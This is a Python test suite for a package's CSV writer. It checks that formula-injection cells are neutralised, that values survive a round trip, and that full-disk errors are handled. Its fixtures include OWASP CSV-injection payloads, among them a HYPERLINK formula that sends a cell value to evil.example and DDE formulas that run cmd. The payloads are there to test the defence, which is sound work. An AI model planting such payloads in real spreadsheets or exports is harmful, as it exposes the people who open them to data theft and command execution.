"""Writing outputs (analysis/io.py): one CSV rule for every CSV the package writes."""

from __future__ import annotations

import csv
import hashlib
import io
import subprocess
import sys

import pandas as pd

from analysis import io as aio

#: OWASP "CSV injection" payloads (https://owasp.org/www-community/attacks/CSV_Injection).
OWASP_PAYLOADS = [
    '=HYPERLINK("http://evil.example/"&B2,"5%")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "'=1+1",  # already quoted once: one more quote, so that reading back is exact
]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _assert_safe(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell[:1] in ("=", "+", "-", "@", "\t", "\r") or _is_number(cell), repr(cell)


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_owasp_payloads_neutralised_in_build_and_cli_csv():
    """Regression: build's and the CLI's CSV (pandas ``to_csv``) wrote formulas as they were."""
    frame = pd.DataFrame({"text": OWASP_PAYLOADS, "value": [-1.5] * len(OWASP_PAYLOADS),
                          "n": pd.array([-1] * len(OWASP_PAYLOADS), dtype="Int64")})
    out = aio.csv_text(frame)
    rows = _cells(out)
    assert rows[0] == ["text", "value", "n"]
    _assert_safe(rows[1:])
    assert [r[0] for r in rows[1:]] == ["'" + p for p in OWASP_PAYLOADS]
    assert {r[1] for r in rows[1:]} == {"-1.5"} and {r[2] for r in rows[1:]} == {"-1"}  # numbers stay numbers
    from analysis.cli import _emit

    assert _emit(frame, "csv") == out  # the CLI's --format csv is the same writer


def test_owasp_payloads_neutralised_in_runner_csv():
    import pyarrow as pa

    from analysis.io import csv_rows

    table = pa.table({"text": OWASP_PAYLOADS, "value": [-1.5] * len(OWASP_PAYLOADS)})
    rows = _cells(csv_rows(table).decode())
    _assert_safe(rows)
    assert [r[0] for r in rows] == ["'" + p for p in OWASP_PAYLOADS] and {r[1] for r in rows} == {"-1.5"}


REPORT = ("各位代表：\n一、工作回顾\n--我们要推动经济发展再上新台阶。\n=HYPERLINK(\"http://evil.example/\")不是公式。\n"
          "二、今年工作\n增强5+2就业之家服务效能，城镇新增就业41万人，地区生产总值增长5%左右。")


def test_build_csv_neutralises_formula_cells_and_load_restores_them(tmp_path):
    """Regression: ``build`` wrote ``--我们要…`` (a shipped sentence) as a formula cell."""
    from analysis.runner.build import build
    from analysis.runner.load import load

    raw = tmp_path / "raw"
    (raw / "seed").mkdir(parents=True)
    (raw / "seed" / "r.txt").write_text(REPORT, encoding="utf-8")
    digest = hashlib.sha256((raw / "seed" / "r.txt").read_bytes()).hexdigest()
    (raw / "MANIFEST.sha256").write_text(f"{digest}  seed/r.txt\n", encoding="utf-8")
    from analysis.runner import run_corpus

    out = tmp_path / "processed"
    assert build(raw, out) == ["r"]
    for f in out.glob("*.csv"):
        _assert_safe(_cells(f.read_text(encoding="utf-8-sig")))
    assert "--我们要推动经济发展再上新台阶。" in load("sentences", out)["sentence"].tolist()  # Parquet: as it is
    every = tmp_path / "all"  # every table as CSV as well
    run_corpus([raw / "seed" / "r.txt"], every, csv="all", progress=False)
    for f in every.glob("*.csv"):
        _assert_safe(_cells(f.read_text(encoding="utf-8-sig")))
    sentences = (every / "sentences.csv").read_text(encoding="utf-8-sig")
    assert '"\'--我们要推动经济发展再上新台阶。"' in sentences
    (every / "sentences.parquet").unlink()  # load then reads the CSV, and takes the "'" off again
    assert "--我们要推动经济发展再上新台阶。" in load("sentences", every)["sentence"].tolist()


def test_cli_metrics_csv_neutralises(tmp_path):
    p = tmp_path / "r.txt"
    p.write_text(REPORT + "\n-3%的降幅需要关注。", encoding="utf-8")
    r = subprocess.run([sys.executable, "-m", "analysis", "metrics", str(p), "--format", "csv"],
                       capture_output=True, text=True)
    assert r.returncode == 0, r.stderr
    rows = _cells(r.stdout)
    _assert_safe(rows)
    # the sentence of the -3% starts with "-": its cell is quoted, as a spreadsheet would run it
    assert any("'-3%的降幅需要关注。" in row for row in rows)


# ---------------------------------------------------------------------------------------
# Properties (hypothesis; profile in tests/conftest.py)
# ---------------------------------------------------------------------------------------

from hypothesis import given  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

#: Text a cell may hold: any character but NUL (csv cannot carry it) and lone surrogates (no
#: decoded text holds one), with the formula
#: starters, quotes, separators and line ends made frequent.
CELL_TEXT = st.text(st.one_of(st.sampled_from("=+-@\t\r\n'\",;增长"), st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00")),
                    max_size=12)
ROWS = st.lists(st.tuples(CELL_TEXT, st.floats(allow_nan=False, allow_infinity=False), st.integers(-10**12, 10**12)),
                min_size=1, max_size=8)


def _frame(rows):
    return pd.DataFrame({"text": pd.array([r[0] for r in rows], dtype="string"), "value": [r[1] for r in rows],
                         "n": [r[2] for r in rows]})


@given(ROWS)
def test_csv_text_round_trips_and_neutralises(rows):
    frame = _frame(rows)
    out = aio.csv_text(frame)
    back = pd.read_csv(io.StringIO(out), dtype={"text": str}, keep_default_na=False)
    assert back["text"].map(aio.restore_formulas).tolist() == frame["text"].tolist()
    assert back["value"].tolist() == frame["value"].tolist() and back["n"].tolist() == frame["n"].tolist()
    _assert_safe(_cells(out))


@given(ROWS)
def test_runner_csv_rows_round_trip_and_neutralise(rows):
    import pyarrow as pa

    from analysis.io import csv_rows

    frame = _frame(rows)
    table = pa.table({"text": frame["text"].tolist(), "value": frame["value"].tolist(), "n": frame["n"].tolist()})
    cells = _cells((csv_rows(table, header=True) + csv_rows(table)).decode())
    _assert_safe(cells)
    assert [aio.restore_formulas(c[0]) for c in cells[1:]] == frame["text"].tolist()
    assert [float(c[1]) for c in cells[1:]] == frame["value"].tolist()
    assert [int(c[2]) for c in cells[1:]] == frame["n"].tolist()


# --- disk full (issue 16, "Why" 6) --------------------------------------------------------
class _FullDisk(io.RawIOBase):
    """A file object whose writes fail as on a full disk (ENOSPC)."""

    def __init__(self, fd):
        self.fd = fd

    def writable(self):
        return True

    def write(self, data):
        import errno

        raise OSError(errno.ENOSPC, "No space left on device")

    def close(self):
        import os

        if not self.closed:
            os.close(self.fd)
        super().close()


def test_regression_disk_full_in_write_atomic_is_one_error_and_leaves_nothing(tmp_path, monkeypatch):
    """ENOSPC while writing: a WriteError naming the file, the old file untouched, no temporary file."""
    target = tmp_path / "documents.csv"
    target.write_text("old\n", encoding="utf-8")
    monkeypatch.setattr(aio.os, "fdopen", lambda fd, mode: _FullDisk(fd))
    try:
        aio.write_atomic(target, "new\n")
    except aio.WriteError as exc:
        assert str(exc) == f"{target}: cannot write (No space left on device)"
    else:
        raise AssertionError("no error on a full disk")
    assert target.read_text(encoding="utf-8") == "old\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["documents.csv"]


def test_write_error_crosses_processes_intact():
    """Raised in a corpus worker, a WriteError must reach the runner as the same error."""
    import pickle

    exc = pickle.loads(pickle.dumps(aio.WriteError("out/parts/ab/x.zip", "cannot write (No space left on device)")))
    assert isinstance(exc, aio.WriteError)
    assert (exc.path, exc.problem) == ("out/parts/ab/x.zip", "cannot write (No space left on device)")
